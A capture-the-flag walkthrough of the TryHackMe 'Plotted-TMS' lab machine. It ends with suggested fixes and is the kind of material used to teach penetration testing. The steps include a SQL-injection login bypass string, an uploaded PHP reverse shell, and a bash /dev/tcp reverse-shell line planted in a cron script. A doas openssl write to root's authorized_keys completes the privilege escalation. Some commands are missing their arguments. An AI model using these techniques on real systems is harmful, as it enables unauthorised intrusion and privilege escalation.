Skip to main content
  1. writeup-ctf/

Writeup - Plotted-TMS (THM)

·529 words·3 mins·
Cybersecurity, Devops, Infrastructure
Table of Contents

This is a writeup for the Plotted-TMS machine from the TryHackMe site.


First, let’s start with a scan of our target with the following command:

nmap -sV -T4 -Pn

Three TCP ports are discovered:• 22/tcp : SSH port (OpenSSH 8.2)
  • 80/tcp : HTTP web server (Apache 2.4.41)
  • 445/tcp : HTTP web server (Apache 2.4.41)


I start by listing the directories of the site hosted on port 445:

We find a management page that gives us access to an admin login page.

After a few injection tests I finally managed to connect with the following injection:

Username = ' or 1=1;-- -

I now have access to the admin panel of the site.In this panel I find the Settings page. This page allows to change the font image of the home page of the site. So I try to send a PHP reverse shell.

Then I access it via the following address:

I now have a reverse shell with the user www-data.

After some research I find that the first flag is in the personal folder of the user plot_admin, problem I do not have the right to read it. So I will have to find a way to change the user.

After launching linPeas on the machine I find that every minute a script is launched by the user plot_admin.

I don’t have the permissions to change the content of the script, but I have the permissions to change the content of the /var/www/scripts folder. So I will be able to replace the current script, by a custom script allowing me to have a reverse shell as plot_admin.

To do this I use the following commands:

mv tmp
echo "bash -c '/bin/bash -i >& /dev/tcp/ 0>&1'" >
chmod +x

I now have a reverse shell with the user plot_admin and I can get the first flag.

Privilege escalation

I start by listing the SUID files with the following command:

find / -perm -u=s -type f 2>/dev/null

I found a command not very common: doas. This command is an alternative to the sudo command. After some research I find on this site that the config file of this command is at the following address: /etc/doas.conf.

I find that my user can execute the openssl command with admin rights. So I’m looking onGTFOBins for exploits related to this command.

I find that it is possible to write in files, so I will be able to add to ssh key in the authorized_keys file and then connect via SSH to the root account.

To do this I use the following commands:

echo "ssh-rsa [key] kali@kali" | doas openssl enc -out "$FILE"

I now have a shell root shell and can retrieve the last flag.


To patch this host I think it would be necessary to perform a number of actions:

  • Fix the site code to avoid SQLinjections ( OWASP SQL Injection)
  •Implement code detection in the admin panel image uploads
  • Store CRON scripts in a folder accessible only by the author
  • Do not allow root rights on commands that do not require it


Writeup - Delivery (HTB)
·1009 words·5 minsWriteup - Active (HTB)·426 words·2 mins
Writeup- Previse (HTB)
·964 words·5 mins